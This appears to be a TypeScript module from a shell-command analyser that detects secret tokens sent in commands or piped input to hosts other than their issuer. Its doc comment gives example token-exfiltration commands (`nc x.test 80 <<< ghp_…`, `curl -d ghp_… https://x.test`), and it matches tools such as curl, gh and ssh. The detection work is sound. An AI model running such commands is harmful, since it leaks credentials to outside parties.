import type { Running } from '../command/running.js';
import { tokensInAddress } from '../../secrets/address-tokens.js';
import { holdsShown } from '../../session/shown-secrets.js';
import { holdsIssued, holdsKept } from '../../secrets/issued.js';
import { HOLE, textOf } from '../../shell/command.js';
import { inputText } from '../../shell/output/output.js';
import { emitResource } from '../command/emit.js';
import { isForgeEntry } from './forge-entry.js';
import { TELLS_OTHERS } from './may-send-token.js';
import { hostOf, isNamedAfter, isOf, issuerOfToken } from './issuer-hosts.js';

/** Whom a command speaks to. */
interface Reached {
  /** Services, by the names of their machines: a token may be for one of them. */
  readonly services: readonly string[];
  /** Somebody who is only sent what there is: by `nc`, by mail, in an entry that others read. */
  readonly anybody: boolean;
  /** Code may give each service what is for it; a command that has several addresses gives all of them the same. */
  readonly apart: boolean;
}

/**
 * `nc x.test 80 <<< ghp_…`, `gh issue comment -b ghp_…`, `git commit -m ghp_…`, `curl -d ghp_… https://x.test`: a token that stands in the command
 * itself, or in what is piped into it, goes to others than gave it out.
 *
 * @param before the number of effects that there were before this command's own
 */
export function sentTokens(running: Running, before: number): void {
  const args = running.command.words.slice(1).map(textOf);
  const reached = reachedBy(args, running, before);
  if (!reached.anybody && reached.services.length === 0) return;
  // What proves to a forge who asks stands in no entry.
  const proves = (index: number): boolean =>
    FORGE.test(running.program) && (HEADER.test(args[index - 1] ?? '') || HEADER_OF.test(args[index] ?? ''));
  if (
    textsSent(args, running).some((text, index) => isSentToOthers(text, proves(index) ? { ...reached, anybody: false } : reached, running))
  ) {
    emitResource('send', 'credential', 'token', running);
  }
}

/** Tells of a token in a request of PowerShell, whose address stands among its arguments, that goes to others than gave it out. */
export function requestedWith(args: readonly string[], running: Running): void {
  const reached = { services: args.filter((arg) => arg.includes('://')).flatMap((arg) => hostOf(arg) ?? []), anybody: false, apart: false };
  if (args.some((arg) => isSentToOthers(arg, reached, running))) emitResource('send', 'credential', 'token', running);
}

const FORGE = /^(?:gh|glab)$/;
const HEADER = /^(?:-H|--header)$/;
const HEADER_OF = /^(?:-H.|--header=)/;

/** Programs that hand on what they are given to another shell, in which its commands are looked at themselves. */
const TO_SHELL = /^(?:ssh|autossh|mosh)$/;

/** Programs for which an address is only a text. */
const TEXT_ONLY = /^(?:echo|printf|grep|egrep|fgrep|rg|sed|awk)$/;

function reachedBy(args: readonly string[], { program, frame: { analysis } }: Running, before: number): Reached {
  if (TO_SHELL.test(program)) return { services: [], anybody: false, apart: false };
  const own = analysis.effects.slice(before).filter((_, index) => analysis.found.ownerOf(before + index) === analysis.flow);
  const named = (kind: 'fetch' | 'send'): readonly string[] =>
    own.flatMap((effect) =>
      effect.kind === kind && effect.target.kind === 'resource' && effect.target.resource === 'host' ? effect.target.name : [],
    );
  const fetched = named('fetch');
  // Behind `-e` curl says where it comes from.
  const addresses = TEXT_ONLY.test(program)
    ? []
    : args.filter((arg, index) => !(program === 'curl' && args[index - 1] === '-e') && ADDRESS.test(arg));
  const [services, others] = parted(named('send'), (name) => name.includes('://') || fetched.includes(name));
  return {
    services: [...fetched, ...services, ...addresses].flatMap((name) => hostOf(name) ?? []),
    anybody:
      others.some((name) => name === '' || name.split(/[\s/:@]+/).some((piece) => hostOf(piece) !== undefined)) ||
      isForgeEntry(program, args) ||
      (program === 'git' && TELLS_OTHERS.test([program, ...args].join(' '))),
    apart: own.some(({ kind, target }) => kind === 'execute' && target.kind === 'resource' && target.resource === 'code'),
  };
}

function parted(names: readonly string[], isFirst: (name: string) => boolean): readonly [readonly string[], readonly string[]] {
  return [names.filter(isFirst), names.filter((name) => !isFirst(name))];
}

/** The arguments, and what is known of the input. */
function textsSent(args: readonly string[], { command, scope }: Running): readonly string[] {
  const input = command.input.kind === 'text' || command.input.kind === 'pipe' ? inputText(command, scope) : HOLE;
  return input.startsWith(HOLE) ? args : [...args, input];
}

function isSentToOthers(text: string, reached: Reached, running: Running): boolean {
  const shown = reached.services.length === 0 ? [] : running.frame.analysis.world.past.shown();
  if (reached.services.some((host) => holdsShown(text, host, shown))) return true;
  if (!ADDRESS.test(text)) return holdsIssued(text) && isForeign(text, reached, running);
  const isReached = reached.anybody || reached.services.length > 0;
  // Whose secret it is cannot be told where only its name is known.
  return (
    isReached &&
    tokensInAddress(text).some((token) => (holdsIssued(token) ? isForeign(token, reached, running) || isAskedFor(token, running) : true))
  );
}

/** Where a service that may stand anywhere is asked by a token in the address (docs.gitlab.com, "REST API authentication"), or before the host. */
const OF_SERVICE = /\/api\/(?:v\d|graphql)|\.git(?:[/?#]|$)|^[a-z+.-]{1,30}:\/\/[^/@\s]{1,300}@/i;

/** True for an address with a token behind its host, where nobody would ask the service that gave it out. */
function isAskedFor(token: string, running: Running): boolean {
  const host = hostOf(token);
  const issuer = issuerOfToken(token);
  return host !== undefined && issuer?.ownHosts !== undefined && !OF_SERVICE.test(token) && !isOf(issuer, host, running);
}

const ADDRESS = /^[a-z][a-z\d+.-]*:\/\/\S+$/i;

/** True for a token that is not for whom the command speaks to. Whose tokens are in no row may be for any service. */
function isForeign(text: string, { services, anybody, apart }: Reached, running: Running): boolean {
  if (anybody) return true;
  if (holdsKept(text)) return services.length > 0;
  const issuer = issuerOfToken(text);
  if (issuer === undefined) return false;
  const isElsewhere = (host: string): boolean => !isOf(issuer, host, running) && !isNamedAfter(issuer, host);
  return apart ? services.length > 0 && services.every(isElsewhere) : services.some(isElsewhere);
}
